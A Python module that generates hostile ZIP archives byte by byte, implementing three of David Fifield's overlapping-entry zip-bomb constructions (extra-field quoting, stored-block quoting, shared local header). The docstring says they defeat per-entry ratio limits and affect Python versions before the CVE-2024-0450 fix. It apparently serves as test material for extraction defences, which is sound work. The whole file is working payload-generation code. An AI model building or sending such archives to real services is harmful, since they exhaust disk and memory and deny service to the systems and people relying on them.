"""Hostile ZIP archives built byte by byte (no tool writes these): David Fifield's overlapping-entry bombs.

In an overlapping bomb many central-directory entries share one compressed "kernel", so a small archive
declares (and inflates to) many times its size while every single entry keeps an ordinary compression ratio.
Python before 3.12.2 / 3.11.8 (CVE-2024-0450) extracts every entry.

* :func:`extra_field_bomb` (Fifield's "extra-field quoting"): entry *i*'s local header carries the local
  headers of entries *i+1…n-1* inside its extra field, so every entry's data starts at the same kernel and
  each one inflates to exactly the kernel's text (a clean, indexable document each time).
* :func:`quoted_bomb` (Fifield's main construction): entry *i*'s compressed data quotes the next local header
  in a stored DEFLATE block and then continues into entry *i+1*'s data, down to the shared kernel.
* :func:`same_offset_bomb`: every central entry points at the one local header.
"""

from __future__ import annotations

import random
import struct
import zlib

__all__ = ["bomb_kernel", "extra_field_bomb", "quoted_bomb", "same_offset_bomb"]

LOCAL = struct.Struct("<4sHHHHHIIIHH")  # signature, version, flags, method, time, date, crc, csize, usize, n, m
CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")
END = struct.Struct("<4sHHHHIIH")
DEFLATED = 8


def bomb_kernel(size: int = 512 * 1024, seed: int = 13) -> bytes:
    """Plain-text "contract" prose that deflates about 60:1: well under any sane per-entry ratio limit."""
    rng = random.Random(seed)
    words = [b"lessee", b"lessor", b"indemnify", b"clause", b"agreement", b"party", b"notice", b"term",
             b"breach", b"remedy", b"schedule", b"premises", b"covenant", b"assign", b"waiver", b"default"]
    block = b" ".join(rng.choice(words) for _ in range(4000)) + b".\n"  # ~28 KB, repeated in the window
    return (block * (size // len(block) + 1))[:size]


def _deflate(data: bytes) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush()


def _local(name: bytes, crc: int, csize: int, usize: int, extra: bytes = b"") -> bytes:
    return LOCAL.pack(b"PK\x03\x04", 20, 0, DEFLATED, 0, 0x21, crc, csize, usize, len(name), len(extra)) + name + extra


def _central(name: bytes, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, DEFLATED, 0, 0x21, crc, csize, usize, len(name), 0, 0, 0, 0, 0,
                        offset) + name


def _finish(body: bytes, centrals: list[bytes]) -> bytes:
    directory = b"".join(centrals)
    end = END.pack(b"PK\x05\x06", 0, 0, len(centrals), len(centrals), len(directory), len(body), 0)
    return body + directory + end


def _names(n: int) -> list[bytes]:
    return [f"contract-{i:04d}.txt".encode() for i in range(n)]


def extra_field_bomb(n: int, kernel_text: bytes) -> bytes:
    """``n`` entries, each inflating to ``kernel_text``, sharing one compressed copy of it."""
    kernel, crc = _deflate(kernel_text), zlib.crc32(kernel_text)
    names = _names(n)
    nested = b""
    for name in reversed(names):  # innermost (last) header first: header i quotes header i+1 in its extra field
        extra = struct.pack("<HH", 0x9999, len(nested)) + nested if nested else b""
        if len(extra) > 0xFFFF:
            raise ValueError(f"{n} entries do not fit in one extra field (about 1,400 do)")
        nested = _local(name, crc, len(kernel), len(kernel_text), extra)
    offsets, offset = [], 0
    for name in names:
        offsets.append(offset)
        offset += LOCAL.size + len(name) + 4  # into the extra field, where the next header starts
    centrals = [_central(nm, crc, len(kernel), len(kernel_text), off) for nm, off in zip(names, offsets, strict=True)]
    return _finish(nested + kernel, centrals)


def quoted_bomb(n: int, kernel_text: bytes) -> bytes:
    """``n`` entries; entry i's DEFLATE stream quotes the headers after it, then ends in the shared kernel."""
    kernel = _deflate(kernel_text)
    names = _names(n)
    # Build from the last entry backwards: each entry's compressed data is everything after its own header.
    tail = kernel  # compressed data of the last entry
    produced = kernel_text  # what that data inflates to
    pieces: list[tuple[bytes, int, int, int]] = []  # (name, crc, csize, usize), last entry first
    headers: list[bytes] = []
    for index in range(n - 1, -1, -1):
        name = names[index]
        header = _local(name, zlib.crc32(produced), len(tail), len(produced))
        pieces.append((name, zlib.crc32(produced), len(tail), len(produced)))
        headers.append(header)
        if index:  # the previous entry quotes this header in a stored block, then continues into our data
            quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)  # BFINAL=0, BTYPE=00
            tail = quote + header + tail
            produced = header + produced
    body = headers[-1] + tail  # entry 0's header, then its data (which contains every later header)
    centrals, offset = [], 0
    for (name, crc, csize, usize), header in zip(reversed(pieces), reversed(headers), strict=True):
        centrals.append(_central(name, crc, csize, usize, offset))
        offset += len(header) + 5  # the next header follows its 5-byte stored-block quote
    return _finish(body, centrals)


def same_offset_bomb(n: int, kernel_text: bytes) -> bytes:
    """``n`` central entries with the same name, all pointing at one local header and one kernel."""
    kernel, crc = _deflate(kernel_text), zlib.crc32(kernel_text)
    name = b"contract.txt"
    body = _local(name, crc, len(kernel), len(kernel_text)) + kernel
    return _finish(body, [_central(name, crc, len(kernel), len(kernel_text), 0) for _ in range(n)])
